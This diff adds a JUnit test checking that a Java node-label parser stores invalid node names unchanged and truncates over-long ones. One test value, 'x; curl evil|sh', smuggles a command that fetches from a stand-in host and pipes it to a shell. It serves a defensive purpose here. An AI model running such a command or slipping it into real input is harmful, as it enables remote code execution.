@@ -3,6 +3,8 @@ package io.kubeletdoctor.intake;
 import java.util.Map;
 import java.util.stream.Stream;
 
+import io.kubeletdoctor.intake.NodeLabels.NodeRef;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
 import org.junit.jupiter.params.provider.MethodSource;
@@ -32,6 +34,16 @@ class NodeLabelsTests {
 			assertThat(ref.name()).isEqualTo(node);
 			assertThat(ref.label()).isEqualTo(label);
 		});
+	}
+
+	/** Labels are stored as they are, to be rejected by their report; only the storable length is cut. */
+	@Test
+	void invalidNamesAreKeptAndOverLongOnesCutToStayInvalid() {
+		assertThat(NodeLabels.of(Map.of("node", "x; curl evil|sh"))).map(NodeRef::name).hasValue("x; curl evil|sh");
+		String overLong = "a".repeat(300);
+		String stored = NodeLabels.of(Map.of("node", overLong)).orElseThrow().name();
+		assertThat(stored).hasSize(NodeLabels.MAX_STORED).startsWith("a".repeat(252)).endsWith("\u2026");
+		assertThat(NodeLabels.of(Map.of("node", "b".repeat(253))).orElseThrow().name()).isEqualTo("b".repeat(253));
 	}
 
 	@ParameterizedTest
